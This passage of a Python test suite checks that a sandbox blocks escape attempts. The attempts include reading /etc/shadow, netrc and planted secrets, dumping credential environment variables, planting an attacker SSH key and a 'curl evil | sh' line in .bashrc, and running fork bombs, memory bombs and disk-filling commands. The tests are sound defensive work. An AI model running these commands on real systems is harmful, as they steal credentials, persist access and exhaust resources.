    async def run(a: Arena) -> None:
        a.monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
        a.monkeypatch.delenv("XDG_STATE_HOME", raising=False)
        root = _home_path(a, pattern)
        secret_file = root if inner is None else root / inner
        secret_file.parent.mkdir(parents=True, exist_ok=True)
        marker = f"SECRET-{a.token}"
        secret_file.write_text(marker)
        os.chmod(secret_file, 0o600)
        a.own()
        # Twice: with the home visible, the deny_read mask alone must hold; with the home
        # hidden (the default), nothing of it is there but what is allowed back.
        for hide_home in (False, True):
            out = await a.py(
                "t('notes', r, os.environ['HOME'] + '/notes.txt')\n"
                "t('read', r, A['secret'])\n"
                "t('list', lambda: os.listdir(A['root']) if os.path.isdir(A['root']) else 1/0)\n"
                "t('cat', os.system, 'cat ' + A['secret'])",
                spec=a.spec(hide_home=hide_home),
                extra={"secret": str(secret_file), "root": str(root)},
            )
            out.assert_refused("read")
            if hide_home:
                assert not out.report["notes"].startswith("ok"), "the home must be hidden"
                assert not out.report["list"].startswith("ok:['"), out.debug()
            else:
                assert out.report["notes"].startswith("ok"), "the rest of home stays readable"
                if inner is not None:
                    assert out.report["list"] == "ok:[]", out.debug()
            assert marker.encode() not in out.output
        assert secret_file.read_text() == marker  # and it was not damaged either

    return run


for _pattern, _inner in SECRET_LAYOUT.items():
    ATTEMPTS.append(Attempt(f"secret[{_pattern}]", _make_secret_attempt(_pattern, _inner)))


@attempt("secret_via_symlink")
async def _(a: Arena) -> None:
    real = a.vault / "netrc-real"
    marker = f"SECRET-{a.token}"
    real.write_text(marker)
    (a.home / ".netrc").symlink_to(real)
    a.own()
    out = await a.py(
        "t('via_link', r, A['home'] + '/.netrc')\n"
        "t('via_target', r, A['vault'] + '/netrc-real')\n"
        "t('other', r, A['vault'] + '/other.txt')"
    )
    out.assert_refused("via_link", "via_target")
    assert out.report["other"].startswith("ok")
    assert marker.encode() not in out.output


@attempt("secret_under_xdg_config_home")
async def _(a: Arena) -> None:
    xdg = a.base / "xdg-config"
    (xdg / "warren").mkdir(parents=True)
    marker = f"SECRET-{a.token}"
    (xdg / "warren" / "token").write_text(marker)
    a.own()
    a.monkeypatch.setenv("XDG_CONFIG_HOME", str(xdg))
    out = await a.py("t('read', r, A['xdg'] + '/warren/token')", extra={"xdg": str(xdg)})
    out.assert_refused("read")
    assert marker.encode() not in out.output


@attempt("secret_system_shadow")
async def _(a: Arena) -> None:
    shadow = Path("/etc/shadow")
    if not shadow.exists():
        pytest.skip("no /etc/shadow")
    with accounts_lock(exclusive=False):  # not while an account is made: see ACCOUNTS_LOCK
        out = await a.py(
            "t('shadow', r, '/etc/shadow')\nt('gshadow', r, '/etc/gshadow')\n"
            "t('passwd', r, '/etc/passwd')"
        )
    out.assert_refused("shadow", "gshadow")
    assert out.report["passwd"].startswith("ok")
    if os.access(shadow, os.R_OK):
        first = shadow.read_text().splitlines()[0]
        assert first[:40].encode() not in out.output


@attempt("ssh_key_planted_in_writable_home")
async def _(a: Arena) -> None:
    # The workspace *is* the home: a missing ~/.ssh must not be creatable either.
    out = await a.py(
        "t('mkdir', os.makedirs, A['home'] + '/.ssh', exist_ok=True)\n"
        "t('keys', w, A['home'] + '/.ssh/authorized_keys', 'ssh-ed25519 AAAA attacker')\n"
        "t('bashrc', w, A['home'] + '/.bashrc', 'curl evil | sh')",
        spec=a.spec(workspace=a.home),
        extra={"ws": str(a.home)},
    )
    out.assert_ran()
    assert {".ssh", ".bashrc"} <= _undone(out)
    assert not (a.home / ".ssh").exists()
    assert not (a.home / ".bashrc").exists()


@attempt("environment_secrets")
async def _(a: Arena) -> None:
    names = [
        "ANTHROPIC_API_KEY",
        "GITHUB_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "SSH_AUTH_SOCK",
        "DB_PASSWORD",
        "MY_SECRET_VALUE",
        "SERVICE_KEY",
        "AZURE_CLIENT_SECRET",
        "GOOGLE_APPLICATION_CREDENTIALS",
        "npm_token",
        "RAY_AUTH_TOKEN",
        "RAY_AUTH_MODE",
        "RAY_ADDRESS",
    ]
    for name in names:
        a.monkeypatch.setenv(name, f"leak-{name}-{a.token}")
    out = await a.py("R['env'] = json.dumps(dict(os.environ))")
    out.assert_ran()
    assert a.token.encode() not in out.result.stdout.replace(a.token.encode() + b'"', b"")
    leaked = [n for n in names if f"leak-{n}" in out.report["env"]]
    assert leaked == []


# --------------------------------------------------------------------------------------
# Resource limits
# --------------------------------------------------------------------------------------


@attempt("fork_bomb")
async def _(a: Arena) -> None:
    # Exponential, but bounded (2**10 processes at most) so that a regression in the limit
    # hurts the test machine only a little.
    spec = a.spec(limits=Limits(processes=48, wall_time_s=30.0))
    out = await a.py(
        "done()\n"
        "import time\n"
        "def bomb(depth):\n"
        "    for _ in range(2):\n"
        "        try:\n"
        "            if os.fork() == 0:\n"
        "                if depth < 9:\n"
        "                    bomb(depth + 1)\n"
        "                time.sleep(60)\n"
        "                os._exit(0)\n"
        "        except OSError:\n"
        "            pass\n"
        "bomb(0)\n"
        "time.sleep(60)",
        spec=spec,
    )
    assert out.result.killed_by_limit == "processes", out.debug()
    assert out.result.limit_message(spec.limits) is not None
    assert out.result.duration_s < 20
    await assert_gone(a.token)


@attempt("memory_bomb")
async def _(a: Arena) -> None:
    spec = a.spec(limits=Limits(memory_bytes=256 * 2**20, wall_time_s=30.0))
    out = await a.py("hog = []\nwhile True:\n    hog.append(bytearray(16 * 2**20))", spec=spec)
    assert not out.result.ok
    assert out.result.killed_by_limit == "memory" or b"MemoryError" in out.result.stderr, (
        out.debug()
    )
    await assert_gone(a.token)


@attempt("ten_gigabyte_write")
async def _(a: Arena) -> None:
    limit = 16 * 2**20
    spec = a.spec(limits=Limits(file_size_bytes=limit, wall_time_s=30.0))
    out = await a.sh('head -c 10G /dev/zero > "$1/big"', spec=spec)
    assert out.result.killed_by_limit == "file_size", out.debug()
    assert (a.ws / "big").stat().st_size <= limit


@attempt("fill_private_tmp")
async def _(a: Arena) -> None:
    spec = a.spec(limits=Limits(tmp_bytes=8 * 2**20, wall_time_s=30.0))
    out = await a.sh(
        'head -c 64M /dev/zero > /tmp/big; echo "tmp=$?"; '
        'head -c 64M /dev/zero > /dev/shm/big; echo "shm=$?"',
        spec=spec,
    )
    text = out.result.stdout.decode()
    assert "tmp=0" not in text and "shm=0" not in text, out.debug()
    assert b"No space left" in out.result.stderr


@attempt("endless_output")
async def _(a: Arena) -> None:
    cap = 2**20
    spec = a.spec(limits=Limits(output_bytes=cap, wall_time_s=30.0))
    out = await a.sh("yes escape", spec=spec)
    assert out.result.killed_by_limit == "output", out.debug()
    assert out.result.output_truncated
    assert len(out.result.stdout) + len(out.result.stderr) == cap


@attempt("cpu_spin")
async def _(a: Arena) -> None:
    spec = a.spec(limits=Limits(cpu_time_s=1, wall_time_s=30.0))
    out = await a.py("done()\nwhile True:\n    pass", spec=spec)
    assert out.result.killed_by_limit == "cpu_time", out.debug()
    await assert_gone(a.token)


@attempt("open_file_exhaustion")
async def _(a: Arena) -> None:
    spec = a.spec(limits=Limits(open_files=64, wall_time_s=30.0))
    out = await a.py(
        "fds = []\n"
        "def grab():\n"
        "    while True:\n"
        "        fds.append(os.open('/dev/null', os.O_RDONLY))\n"
        "t('grab', grab)\n"
        "R['count'] = str(len(fds))\n"
        "for fd in fds:\n"
        "    os.close(fd)",
        spec=spec,
    )
    out.assert_refused("grab")
    assert "Too many open files" in out.report["grab"]
    assert int(out.report["count"]) < 64


@attempt("wall_time")
async def _(a: Arena) -> None:
    spec = a.spec(limits=Limits(wall_time_s=0.5))
    out = await a.py("done()\nimport time\ntime.sleep(60)", spec=spec)
    assert out.result.timed_out
    assert out.result.killed_by_limit == "wall_time"
    assert out.result.duration_s < 10
    await assert_gone(a.token)


# --------------------------------------------------------------------------------------
# A read-only workspace refuses every write
# --------------------------------------------------------------------------------------

_RO_ATTEMPTS = {
    "create": "t('x', w, A['ws'] + '/new.txt')",
    "modify": "t('x', app, A['ws'] + '/file.txt')",
    "truncate": "t('x', os.truncate, A['ws'] + '/file.txt', 0)",
    "delete": "t('x', os.unlink, A['ws'] + '/file.txt')",
    "mkdir": "t('x', os.mkdir, A['ws'] + '/newdir')",
    "rmdir": "t('x', os.rmdir, A['ws'] + '/sub')",
    "rename": "t('x', os.rename, A['ws'] + '/file.txt', A['ws'] + '/renamed.txt')",
    "chmod": "t('x', os.chmod, A['ws'] + '/file.txt', 0o777)",
    "touch": "t('x', os.utime, A['ws'] + '/file.txt', (0, 0))",
    "symlink": "t('x', os.symlink, '/etc/passwd', A['ws'] + '/link')",
    "hardlink": "t('x', os.link, A['ws'] + '/file.txt', A['ws'] + '/hard')",
    "mkfifo": "t('x', os.mkfifo, A['ws'] + '/fifo')",
}


def _make_ro_attempt(action: str, script: str) -> AttemptFn:
    async def run(a: Arena) -> None:
        def snapshot() -> list[tuple[str, int, float, int]]:
            out = []
            for path in sorted(a.ws.rglob("*")):
                info = path.lstat()
                out.append((str(path), info.st_mode, info.st_mtime, info.st_size))
            return out

        before = snapshot()
        out = await a.py(script, mode="ro")
        out.assert_refused("x")
        assert "Read-only file system" in out.report["x"], out.debug()
        assert snapshot() == before
        assert unchanged(a.ws / "file.txt")

    return run


for _action, _script in _RO_ATTEMPTS.items():
    ATTEMPTS.append(Attempt(f"read_only_workspace[{_action}]", _make_ro_attempt(_action, _script)))


# --------------------------------------------------------------------------------------


def test_suite_is_large_enough() -> None:
    names = [a.name for a in ATTEMPTS]
    assert len(names) == len(set(names)), "attempt names must be unique"
    assert len(names) >= 50


@pytest.mark.parametrize("case", ATTEMPTS, ids=lambda case: case.name)
async def test_escape(case: Attempt, arena: Arena) -> None:
    await case.fn(arena)
